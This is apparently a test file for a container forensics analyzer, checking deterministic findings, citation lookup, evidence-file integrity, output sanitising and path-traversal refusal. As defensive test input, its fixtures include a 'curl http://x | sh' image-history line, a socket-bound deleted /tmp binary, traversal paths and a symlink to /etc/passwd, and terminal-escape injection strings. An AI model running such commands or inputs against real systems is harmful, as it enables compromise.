import { createHash } from 'node:crypto';
import { appendFile, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type Analyzer, defineAnalyzer, type MachineFinding } from '../../../src/main/analyze/analyzer';
import { CITED_LIMIT, resolveCitation } from '../../../src/main/analyze/cite';
import { evidenceFile } from '../../../src/main/analyze/context';
import { canonical, findingHash, finishFindings, shortIds } from '../../../src/main/analyze/findings';
import { analyzers, checkedAnalyzers } from '../../../src/main/analyze/registry';
import { analyzeCase, derivedPath, readDerived, writeDerived } from '../../../src/main/analyze/run';
import type { LadingError } from '../../../src/shared/errors';
import { analyze, caseOf, type Given, processFrames, socketFrames, tcpRow, WEB } from './kit';

const code = (promise: Promise<unknown>) =>
  promise.then(
    () => 'nothing',
    (error: LadingError) => error.code,
  );

function made(more: Partial<MachineFinding> = {}): MachineFinding {
  return {
    rule: 'test.rule',
    ruleVersion: '1',
    title: 'A test',
    severity: 'low',
    confidence: 'certain',
    techniques: ['T1611'],
    target: WEB,
    claim: 'It is so.',
    benign: 'It may be.',
    cites: [{ exhibit: 'E0001', locator: 'whole' }],
    ...more,
  };
}

/** An analyzer that does what a test says. */
const doing = (work: Analyzer['analyze'], id = 'test'): Analyzer =>
  defineAnalyzer({ id, version: '1', title: `Test ${id}`, accepts: () => true, analyze: work });

/** Exhibits that most analyzers have something to say about. */
const GIVEN: Given[] = [
  {
    collector: 'engine.events',
    content: '{"Type":"container","Action":"exec_create: sh","Actor":{"ID":"c","Attributes":{}},"timeNano":1}\n{\n',
  },
  {
    collector: 'container.inspect',
    content: { HostConfig: { Privileged: true, CapAdd: 7 }, Config: { User: '' }, Mounts: [] },
  },
  {
    collector: 'container.changes',
    content: [
      { Path: '/etc/passwd', Kind: 0 },
      { Path: '/usr/bin/ls', Kind: 0 },
    ],
  },
  {
    collector: 'container.processes',
    content: processFrames([
      {
        pid: 1005,
        exe: '/tmp/.x (deleted)',
        names: 0,
        argv: ['sh'],
        fds: { 0: 'socket:[7]', 1: 'socket:[7]', 2: 'socket:[7]' },
      },
    ]),
  },
  { collector: 'container.sockets', content: socketFrames({ tcp: [tcpRow('10.0.0.2:1', '10.0.0.9:2', '01', 7)] }) },
  {
    collector: 'image.history',
    content: [{ CreatedBy: '/bin/sh -c curl http://x | sh' }],
    target: { kind: 'image', id: 'i', name: 'i' },
  },
  { collector: 'something.else', content: 'not read by anybody', kind: 'binary' },
];

describe('the same exhibits', () => {
  it('give the same bytes each time, in whatever order their records come', async () => {
    const { dir, records } = await caseOf(GIVEN);
    const first = canonical(await analyzeCase({ dir, records }));
    expect(JSON.parse(first).findings.length).toBeGreaterThan(8);
    await fc.assert(
      fc.asyncProperty(fc.shuffledSubarray(records, { minLength: records.length }), async (shuffled) => {
        expect(canonical(await analyzeCase({ dir, records: shuffled }))).toBe(first);
      }),
      { numRuns: 12 },
    );
  });

  it('give the same bytes in another folder, and name no folder', async () => {
    const [one, two] = [await caseOf(GIVEN), await caseOf(GIVEN)];
    const [a, b] = [await analyzeCase(one), await analyzeCase(two)];
    expect(canonical(a)).toBe(canonical(b));
    expect(canonical(a)).not.toContain(one.dir);
  });

  it('give the same findings whatever the order of the analyzers', async () => {
    const { dir, records } = await caseOf(GIVEN);
    const forth = await analyzeCase({ dir, records, analyzers: analyzers() });
    const back = await analyzeCase({ dir, records, analyzers: [...analyzers()].reverse() });
    expect(back.findings).toEqual(forth.findings);
    expect(back.unreadable).toEqual(forth.unreadable);
  });

  it('cite places that are there, and say what else was not understood', async () => {
    // analyze() looks up every citation
    const result = await analyze(GIVEN);
    expect(new Set(result.findings.flatMap(({ cites }) => cites.map(({ exhibit }) => exhibit))).size).toBeGreaterThan(
      4,
    );
    expect(result.unreadable.map(({ exhibit }) => exhibit)).toContain('E0001');
    expect(result.unreadable.some(({ reason }) => reason.includes('json:/HostConfig/CapAdd'))).toBe(true);
  });
});

describe('a run', () => {
  it('goes on after an analyzer that fails, keeps its findings and says what it was given', async () => {
    const fails = doing(async (ctx) => {
      ctx.finding(made());
      throw new Error('out of luck');
    }, 'a');
    const works = doing(async (ctx) => ctx.finding(made({ rule: 'test.other' })), 'b');
    const result = await analyze([{ collector: 'x', content: 'y' }], [fails, works]);
    expect(result.findings.map(({ rule }) => rule)).toEqual(['test.other', 'test.rule']);
    expect(result.unreadable).toEqual([{ exhibit: 'E0001', reason: 'Test a stopped: out of luck' }]);
  });

  it('survives an analyzer whose `accepts` fails', async () => {
    const broken: Analyzer = { ...doing(async () => undefined), accepts: () => JSON.parse('{') };
    expect((await analyze([{ collector: 'x', content: 'y' }], [broken])).unreadable).toHaveLength(1);
    expect((await analyze([], [broken])).unreadable).toEqual([]);
  });

  it('refuses findings that cite nothing, cite another case, or are none', async () => {
    const bad: Partial<MachineFinding>[] = [
      { cites: [] },
      { cites: [{ exhibit: 'E0099', locator: 'whole' }] },
      { cites: [{ exhibit: 'E0001', locator: 'somewhere' }] },
      { claim: '' },
    ];
    for (const [i, more] of bad.entries()) {
      const result = await analyze([{ collector: 'x', content: 'y' }], [doing(async (ctx) => ctx.finding(made(more)))]);
      expect(result.findings, `bad ${i}`).toEqual([]);
      expect(result.unreadable, `bad ${i}`).toHaveLength(1);
    }
  });

  it('makes harmless what an analyzer forgot to', async () => {
    const result = await analyze(
      [{ collector: 'x', content: 'y' }],
      [
        doing(async (ctx, [exhibit]) => {
          ctx.finding(made({ claim: 'a\u001b[31m\u202eb', title: '\u0007', benign: '\u200b' }));
          if (exhibit) ctx.unreadable(exhibit, `\u001b]0;x\u0007${'y'.repeat(5000)}`);
        }),
      ],
    );
    expect(JSON.stringify(result)).not.toMatch(/\\u001b|\\u0007|\u202e|\u200b/);
    expect(result.unreadable[0]?.reason.length).toBeLessThan(600);
  });

  it('stops when it is cancelled, also by the last analyzer', async () => {
    const { dir, records } = await caseOf([{ collector: 'x', content: 'y' }]);
    const stop = new AbortController();
    const swallows = doing(async () => stop.abort());
    expect(await code(analyzeCase({ dir, records, analyzers: [swallows], signal: stop.signal }))).toBe('CANCELLED');
    expect(await code(analyzeCase({ dir, records, signal: AbortSignal.abort() }))).toBe('CANCELLED');
  });

  it('says how far it is', async () => {
    const { dir, records } = await caseOf([]);
    const said: unknown[] = [];
    await analyzeCase({ dir, records, analyzers: [doing(async () => undefined)], progress: (at) => said.push(at) });
    expect(said).toEqual([
      { done: 0, total: 1, title: 'Test test' },
      { done: 1, total: 1 },
    ]);
  });
});

describe('the bytes of an exhibit', () => {
  const reading = (out: string[]) =>
    doing(async (ctx, exhibits) => {
      for (const one of exhibits) out.push((await ctx.read(one)).toString());
    });

  it('are not read where they are not those of the record', async () => {
    const { dir, records } = await caseOf([{ collector: 'x', content: 'y' }]);
    const [record] = records;
    if (!record) throw new Error('no record');
    const path = evidenceFile(dir, record);
    await appendFile(path, '!');
    const seen: string[] = [];
    const result = await analyzeCase({ dir, records, analyzers: [reading(seen)] });
    expect(seen).toEqual([]);
    expect(result.unreadable[0]?.reason).toContain('is not the file that was collected');

    await rm(path);
    await symlink('/etc/passwd', path);
    const link = await analyzeCase({ dir, records, analyzers: [reading(seen)] });
    expect(link.unreadable[0]?.reason).toContain('not a plain file');
    await rm(path);
    expect((await analyzeCase({ dir, records, analyzers: [reading(seen)] })).unreadable).toHaveLength(1);
    expect(seen).toEqual([]);
  });

  it('stream whole and in part; a changed file ends the stream with an error', async () => {
    const { dir, records } = await caseOf([{ collector: 'x', content: 'abcdef' }]);
    const seen: string[] = [];
    const streams = doing(async (ctx, [one]) => {
      if (!one) return;
      const all = async (range?: { start: number; end: number }) => {
        const parts: Buffer[] = [];
        for await (const part of ctx.stream(one, range)) parts.push(part);
        seen.push(Buffer.concat(parts).toString());
      };
      await all({ start: 1, end: 3 });
      await all({ start: 3, end: 3 });
      await all();
    });
    await analyzeCase({ dir, records, analyzers: [streams] });
    expect(seen).toEqual(['bc', '', 'abcdef']);
    await writeFile(join(dir, 'evidence', 'E0001', 'x.bin'), 'abcdeX');
    expect((await analyzeCase({ dir, records, analyzers: [streams] })).unreadable[0]?.reason).toContain('differs');
    expect(seen).toHaveLength(5);
  });

  it.each(['../case.json', '..\\case.json', 'C:x', '', '.', '..', 'a\0b', '/etc/passwd'])(
    'are not looked for at %j',
    (file) => {
      expect(() => evidenceFile('/case', { id: 'E0001', file })).toThrow(/outside its folder/);
    },
  );

  it('are not looked for under a made-up id', () => {
    expect(() => evidenceFile('/case', { id: '../E0001', file: 'x' })).toThrow(/outside its folder/);
  });
});

describe('ids of findings', () => {
  it('are made of rule, target and citations, and of nothing else', () => {
    const { id } = finishFindings([made()])[0] ?? { id: '' };
    expect(id).toMatch(/^F[0-9a-f]{8}$/);
    const subject =
      '{"cites":[{"exhibit":"E0001","locator":"whole"}],"rule":"test.rule","target":{"id":"ID","kind":"container"}}';
    const expected = createHash('sha256').update(subject.replace('ID', WEB.id)).digest('hex');
    expect(id).toBe(`F${expected.slice(0, 8)}`);
    const same = finishFindings([
      made({ claim: 'Other', title: 'Other', severity: 'high', target: { ...WEB, name: 'renamed' } }),
    ]);
    expect(same[0]?.id).toBe(id);
    for (const other of [
      made({ rule: 'test.rule2' }),
      made({ target: { ...WEB, id: 'd'.repeat(64) } }),
      made({ cites: [{ exhibit: 'E0001', locator: 'line:1' }] }),
    ]) {
      expect(finishFindings([other])[0]?.id).not.toBe(id);
    }
  });

  it('stay when a later exhibit says the same', () => {
    const [early] = finishFindings([made()]);
    const again = made({ cites: [{ exhibit: 'E0007', locator: 'whole' }] });
    expect(finishFindings([again, made()])).toEqual([early]);
  });

  it('never meet, however alike the hashes are', () => {
    fc.assert(
      fc.property(fc.array(fc.stringMatching(/^a{0,12}[0-9a-f]{1,4}$/), { maxLength: 12 }), (hashes) => {
        const sorted = hashes.map((hash) => hash.padEnd(64, '0')).sort();
        const ids = shortIds(sorted);
        expect(new Set(ids).size).toBe(sorted.length);
      }),
    );
  });

  it('hash the same for keys in any order', () => {
    const { rule, target, cites } = made();
    expect(findingHash({ cites, target, rule })).toBe(findingHash({ rule, target, cites }));
  });

  it('come with the gravest first', () => {
    const list = finishFindings([
      made({ rule: 'a', severity: 'low' }),
      made({ rule: 'b', severity: 'critical' }),
      made({ rule: 'c', severity: 'informational' }),
    ]);
    expect(list.map(({ rule }) => rule)).toEqual(['b', 'a', 'c']);
  });
});

describe('citations', () => {
  const CONTENT = 'first\n\nthird \u2028 still\r\nlast';

  it.each([
    ['line:1', 'first', 0],
    ['line:2', '', 6],
    ['line:3', 'third \u2028 still\r', 7],
    ['line:4', 'last', 24],
    ['bytes:6+0', '', 6],
    ['bytes:1+4', 'irst', 1],
    ['whole', CONTENT, 0],
  ])('%s gives %j', async (locator, text, offset) => {
    const { dir } = await caseOf([{ collector: 'x', content: CONTENT }]);
    const found = await resolveCitation(dir, { exhibit: 'E0001', locator });
    expect(found.bytes?.toString()).toBe(text);
    expect(found.offset).toBe(offset);
  });

  it.each(['line:5', 'line:0', 'bytes:25+99', 'bytes:99999999999999999999+1', 'json:/a', 'elsewhere', 'bytes:-1+2'])(
    '%s gives nothing',
    async (locator) => {
      const { dir } = await caseOf([{ collector: 'x', content: CONTENT }]);
      expect(await code(resolveCitation(dir, { exhibit: 'E0001', locator }))).toBe('BAD_INPUT');
    },
  );

  it('look up pointers, own keys only', async () => {
    const { dir } = await caseOf([{ collector: 'x', content: { 'a/b': { '~': [1, null] } } }]);
    const at = (locator: string) => resolveCitation(dir, { exhibit: 'E0001', locator });
    expect((await at('json:/a~1b/~0/0')).value).toBe(1);
    expect((await at('json:/a~1b/~0/1')).value).toBeNull();
    expect(await code(at('json:/__proto__'))).toBe('BAD_INPUT');
    expect(await code(at('json:/a~1b/~0/length'))).toBe('BAD_INPUT');
  });

  it('give at most a megabyte, and the place of it all', async () => {
    const { dir } = await caseOf([{ collector: 'x', content: Buffer.alloc(CITED_LIMIT + 5, 97) }]);
    const found = await resolveCitation(dir, { exhibit: 'E0001', locator: 'whole' });
    expect(found.bytes).toHaveLength(CITED_LIMIT);
    expect(found.length).toBe(CITED_LIMIT + 5);
  });

  it('say when there is no such record', async () => {
    const { dir } = await caseOf([]);
    expect(await code(resolveCitation(dir, { exhibit: 'E0001', locator: 'whole' }))).toBe('CASE_DAMAGED');
  });
});

describe('the stored result', () => {
  it('is read as it was written, and is the same bytes each time', async () => {
    const { dir, records } = await caseOf(GIVEN);
    expect(await readDerived(dir)).toBeUndefined();
    const result = await analyzeCase({ dir, records });
    await writeDerived(dir, result);
    const first = await readFile(derivedPath(dir));
    expect(await readDerived(dir)).toEqual(result);
    await writeDerived(dir, await analyzeCase({ dir, records }));
    expect(await readFile(derivedPath(dir))).toEqual(first);
  });

  it('says when it is no such file', async () => {
    const { dir, records } = await caseOf([]);
    await writeDerived(dir, await analyzeCase({ dir, records }));
    for (const text of ['{', '{}', 'null']) {
      await writeFile(derivedPath(dir), text);
      expect(await code(readDerived(dir))).toBe('CASE_DAMAGED');
    }
  });
});

describe('the registry', () => {
  it('refuses a file without an analyzer, and two of one id', () => {
    expect(() => checkedAnalyzers({ './a.ts': undefined })).toThrow(/exports no analyzer/);
    const one = doing(async () => undefined, 'x');
    expect(() => checkedAnalyzers({ './a.ts': one, './b.ts': one })).toThrow(/Two analyzers/);
  });

  it('holds what lies in the folder', () => {
    expect(analyzers().map(({ id }) => id)).toEqual(
      expect.arrayContaining(['changes', 'container-config', 'container-logs', 'engine', 'image-history', 'processes']),
    );
  });
});
